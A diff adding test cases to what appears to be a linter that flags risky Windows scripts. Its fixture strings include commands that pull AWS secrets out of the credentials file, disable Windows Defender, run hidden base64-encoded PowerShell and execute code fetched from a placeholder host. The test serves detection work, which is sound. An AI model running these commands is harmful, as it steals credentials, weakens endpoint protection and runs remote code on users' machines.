@@ -69,6 +69,11 @@ var batchCases = []lintCase{
 	{"assets/uac.reg", "security-off", "[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System]\n\"EnableLUA\"=dword:00000001\n", "", 0},
 	{"fast.ps1", "security-off", "$p = 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender'\nSet-ItemProperty -Path $p -Name DisableAntiSpyware -Value 1\n", "warning", 2},
 	{"fast.ps1", "security-off", "Set-ItemProperty -Path 'HKCU:\\Console' -Name VirtualTerminalLevel -Value 1\n", "", 0},
+	// findstr and find print what they match, as grep does; set alone
+	// prints the environment, a secret of no file read.
+	{"creds.bat", "sensitive-path", "type \"%USERPROFILE%\\.aws\\credentials\" | findstr aws_secret_access_key\n", "warning", 1},
+	{"creds.bat", "sensitive-path", "findstr /i secret \"%USERPROFILE%\\.aws\\credentials\"\n", "warning", 1},
+	{"creds.bat", "sensitive-path", "jq -r \".auths | keys[]\" \"%USERPROFILE%\\.docker\\config.json\"\nset\n", "note", 1},
 	// Code hidden in variables, fetched or given to cmd /c.
 	{"prep.bat", "pipe-to-shell", "set A=aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABh\nset B=AG0AcABsAGUAIAB8ACAAaQBlAHgA\npowershell -NoP -W Hidden -Enc %A%%B%\n", "warning", 3},
 	{"prep.bat", "remote-exec", "for /f \"delims=\" %%a in ('curl -s https://x.example/c') do set C=%%a\n%C%\n", "warning", 2},
